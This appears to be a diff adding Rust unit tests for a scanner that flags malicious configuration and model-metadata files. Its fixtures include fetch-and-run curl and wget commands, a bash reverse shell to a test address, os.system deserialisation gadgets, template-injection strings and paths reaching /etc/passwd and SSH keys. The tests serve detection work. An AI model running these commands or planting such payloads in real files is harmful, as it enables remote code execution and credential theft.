@@ -12,6 +12,56 @@ fn ids(text: &str) -> Vec<&'static str> {
 }
 
 #[test]
+fn what_tools_run_of_a_configuration_is_judged() {
+    for (text, expected) in [
+        (r#"{"scripts": {"build": "tsc -p .", "postinstall": "node setup.js"}}"#, Assessment::Clean),
+        (r#"{"scripts": {"anything": "curl -s http://198.51.100.7/x | sh"}}"#, Assessment::Malicious),
+        (r#"{"mcpServers": {"x": {"command": "npx", "args": ["-y", "server"]}}}"#, Assessment::Clean),
+        (
+            r#"{"x": {"command": "sh", "args": ["-c", "wget -qO- http://198.51.100.7/x | sh"]}}"#,
+            Assessment::Malicious,
+        ),
+        (
+            "{\n// tasks\n\"tasks\": [{\"command\": \"bash -i >& /dev/tcp/198.51.100.7/1 0>&1\",},],\n}",
+            Assessment::Malicious,
+        ),
+        (
+            "{\n  // tabs\n  \"editor.tabSize\": 2, /* \" */\n  \"url\": \"http://example.org\",\n}",
+            Assessment::Clean,
+        ),
+        (
+            r#"{"imports": ["$import os"], "device": "$torch.device('cpu')", "net": {"_target_": "UNet"}}"#,
+            Assessment::Clean,
+        ),
+        (r#"{"x": "$__import__('os').system('echo harmless')"}"#, Assessment::Malicious),
+        (
+            r#"{"a": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#,
+            Assessment::Clean,
+        ),
+        (
+            r#"{"kwargs": {"text": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#,
+            Assessment::Malicious,
+        ),
+        (r#"{"itemInfoEntries": {"A": {"path": "com.apple.CoreML/model.mlmodel"}}}"#, Assessment::Clean),
+        (r#"{"itemInfoEntries": {"A": {"path": "../../etc/hosts"}}}"#, Assessment::Malicious),
+        (
+            r#"{"graph": {"initializer": [{"externalData": [{"key": "location", "value": "../w"}]}]}}"#,
+            Assessment::Malicious,
+        ),
+    ] {
+        let report = judge(text, "settings.json");
+        assert_eq!(report.assessment(), expected, "{text}: {:?}", report.findings);
+    }
+    let model =
+        "artifact_path: m\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ";
+    assert_eq!(judge(&format!("{model}model.pkl\n"), "MLmodel").assessment(), Assessment::Clean);
+    assert_eq!(judge(&format!("{model}../../x\n"), "MLmodel").assessment(), Assessment::Malicious);
+    let tracked = |path: &str| judge(&format!("outs:\n- md5: 00\n  path: {path}\n"), "data.dvc").assessment();
+    assert_eq!(tracked("data.csv"), Assessment::Clean);
+    assert_eq!(tracked("/root/.ssh/authorized_keys"), Assessment::Malicious);
+}
+
+#[test]
 fn ordinary_configurations_are_clean() {
     for text in [
         r#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "_name_or_path": "/home/me/llama", "torch_dtype": "bfloat16", "transformers_version": "4.51.0", "rope_scaling": null}"#,
@@ -30,6 +80,51 @@ fn ordinary_configurations_are_clean() {
         judge(r#"{"architectures": ["LlamaForCausalLM"], "transformers_version": "4.51.0"}"#, "config.json");
     assert_eq!(report.facts.properties["architecture"], "LlamaForCausalLM");
     assert_eq!(report.facts.libraries[0].version, "4.51.0");
+}
+
+#[test]
+fn objects_that_libraries_build_from_names_are_judged() {
+    for (text, id) in [
+        (
+            r#"{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "echo harmless"}}"#,
+            "config.target",
+        ),
+        (
+            r#"{"a": {"lc": 1, "type": "constructor", "id": ["langchain_experimental", "tools", "PythonREPLTool"], "kwargs": {}}}"#,
+            "config.target",
+        ),
+        (
+            r#"{"lc": 1, "type": "constructor", "id": ["mine", "Chain"], "kwargs": {}}"#,
+            "config.unknown-target",
+        ),
+        (r#"{"_type": "llm_bash_chain", "prompt": {}}"#, "config.target"),
+        (r#"{"_type": "prompt", "template": "{x.__class__.__init__}"}"#, "template.injection"),
+        (r#"{"_type": "prompt", "template": "{x[__class__]}"}"#, "template.injection"),
+        (r#"{"_type": "prompt", "template_path": "/etc/passwd"}"#, "index.traversal"),
+        (
+            r#"{"py/object": "__main__.X", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo harmless"]}]}"#,
+            "config.target",
+        ),
+        (r#"{"py/type": "subprocess.Popen"}"#, "config.target"),
+        (
+            r#"{"tokenizer_class": "X", "chat_template": {"default": "{{ x.__class__ }}"}}"#,
+            "template.injection",
+        ),
+        (r#"{"model_type": "x", "prompt": "{{ x.__class__ }}"}"#, "template.injection"),
+        (
+            r#"{"_class_name": "X", "_diffusers_version": "0.30.0", "unet": ["../../x", "Y"]}"#,
+            "index.traversal",
+        ),
+        (r#"{"a": !!python/object/apply:os.system ["echo harmless"]}"#, "yaml.object"),
+    ] {
+        assert!(ids(text).contains(&id), "{text}: {:?}", ids(text));
+    }
+    for text in [
+        r#"{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "Hi {name}, {user.first} {{x}}", "openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#,
+        r#"{"py/object": "sklearn.svm.SVC", "c": 1}"#,
+    ] {
+        assert_eq!(ids(text), Vec::<&str>::new(), "{text}");
+    }
 }
 
 #[test]
